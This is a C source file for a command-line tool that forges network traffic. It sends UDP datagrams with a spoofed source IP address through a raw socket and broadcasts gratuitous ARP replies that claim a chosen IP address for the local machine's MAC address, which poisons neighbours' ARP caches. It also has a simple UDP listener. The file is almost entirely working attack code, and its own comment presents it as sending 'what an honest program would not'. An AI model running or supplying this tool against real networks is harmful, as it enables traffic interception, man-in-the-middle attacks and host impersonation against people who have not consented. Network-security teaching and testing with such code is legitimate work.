/* Sends what an honest program would not. As `forge ip FROM TO PORT TEXT`: a UDP datagram whose source address is FROM.
   As `forge arp ADDRESS`: ten ARP replies on eth0, to everybody, that claim ADDRESS. As `forge hear PORT`: prints datagrams. */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <net/ethernet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static int fail(const char *what)
{
    perror(what);
    return 1;
}

static int forge_ip(const char *from, const char *to, int port, const char *text)
{
    char packet[1500] = {0};
    struct iphdr *ip = (struct iphdr *)packet;
    struct udphdr *udp = (struct udphdr *)(packet + sizeof *ip);
    const size_t length = strlen(text), total = sizeof *ip + sizeof *udp + length;
    memcpy(packet + sizeof *ip + sizeof *udp, text, length);
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons((unsigned short)total);
    inet_pton(AF_INET, from, &ip->saddr);
    inet_pton(AF_INET, to, &ip->daddr);
    udp->source = htons(4711);
    udp->dest = htons((unsigned short)port);
    udp->len = htons((unsigned short)(sizeof *udp + length));
    const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) return fail("socket");
    struct sockaddr_in target = {.sin_family = AF_INET};
    target.sin_addr.s_addr = ip->daddr;
    if (sendto(fd, packet, total, 0, (struct sockaddr *)&target, sizeof target) < 0) return fail("sendto");
    return 0;
}

static int forge_arp(const char *address)
{
    const int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
    if (fd < 0) return fail("socket");
    struct ifreq request = {0};
    strcpy(request.ifr_name, "eth0");
    if (ioctl(fd, SIOCGIFHWADDR, &request) < 0) return fail("hardware address");
    unsigned char frame[42] = {0};
    memset(frame, 0xff, 6);
    memcpy(frame + 6, request.ifr_hwaddr.sa_data, 6);
    memcpy(frame + 12, "\x08\x06\x00\x01\x08\x00\x06\x04\x00\x02", 10);
    memcpy(frame + 22, request.ifr_hwaddr.sa_data, 6);
    inet_pton(AF_INET, address, frame + 28);
    memset(frame + 32, 0xff, 6);
    inet_pton(AF_INET, address, frame + 38);
    struct sockaddr_ll target = {.sll_family = AF_PACKET, .sll_halen = 6};
    target.sll_ifindex = (int)if_nametoindex("eth0");
    memset(target.sll_addr, 0xff, 6);
    for (int i = 0; i < 10; ++i)
        if (sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&target, sizeof target) < 0) return fail("sendto");
    return 0;
}

static int hear(int port)
{
    const int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in own = {.sin_family = AF_INET};
    own.sin_port = htons((unsigned short)port);
    if (bind(fd, (struct sockaddr *)&own, sizeof own) < 0) return fail("bind");
    char text[1500];
    for (;;) {
        const ssize_t got = recv(fd, text, sizeof text, 0);
        if (got < 0) return fail("recv");
        if (write(1, text, (size_t)got) < 0) return fail("write");
    }
}

int main(int count, char **words)
{
    if (count == 6 && !strcmp(words[1], "ip")) return forge_ip(words[2], words[3], atoi(words[4]), words[5]);
    if (count == 3 && !strcmp(words[1], "arp")) return forge_arp(words[2]);
    if (count == 3 && !strcmp(words[1], "hear")) return hear(atoi(words[2]));
    return 2;
}
